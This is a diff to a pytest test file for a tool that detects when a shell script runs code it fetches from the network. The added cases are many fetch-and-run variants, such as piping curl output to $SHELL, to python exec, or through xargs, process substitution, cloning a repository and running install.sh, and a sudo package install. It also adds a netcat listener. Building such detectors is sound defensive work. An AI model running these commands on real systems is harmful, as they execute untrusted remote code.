@@ -63,6 +63,17 @@ def flows(text: str, sink: Kind, source: Kind) -> list[tuple[str, str]]:
         f"curl -s {URL} > x.py; python3 x.py",
         f"busybox wget -O - {URL} | busybox sh",
         f"timeout 5 curl {URL} | xargs -0 bash -c",
+        f"curl {URL} | $SHELL",
+        f"curl {URL} | ${{SHELL:-bash}}",
+        f'a=(curl -s {URL}); "${{a[@]}}" | sh',
+        f'set -- curl {URL}; "$@" | sh',
+        f"curl {URL} | python3 -c 'import sys; exec(sys.stdin.read())'",
+        f"curl {URL} | xargs -I% sh -c '%'",
+        f"echo 'curl {URL} | sh' | bash",
+        f'curl {URL} | while read -r l; do bash -c "$l"; done',
+        f"exec 3< <(curl {URL}); sh <&3",
+        f"git clone {URL} r && cd r && ./install.sh",
+        f"curl {URL} -o i.pkg; sudo installer -pkg i.pkg -target /",
         f"$ curl {URL} | sh",
         f"user@host:~$ curl {URL} | sh",
     ],
@@ -272,6 +283,18 @@ def test_text_that_is_only_shown_does_nothing(script: str) -> None:
 def test_data_in_constant_code_is_not_what_runs() -> None:
     script = f"R=$(curl -s {URL})\npython3 -c \"import json; print(json.loads('''$R'''))\""
     assert flows(script, Kind.EXEC, Kind.FETCH) == []
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"git clone {URL} r; cd r; npm install foo",
+        f"V=$(curl -s {URL}); docker run image:$V",
+        "nc -l -p 80 -c 'date'",
+    ],
+)
+def test_what_only_stands_nearby_does_not_flow(script: str) -> None:
+    assert flows(script, Kind.EXEC, Kind.FETCH) + flows(script, Kind.EXEC, Kind.LISTEN) == []
 
 
 def test_a_fence_with_placeholders_and_output_is_read() -> None:
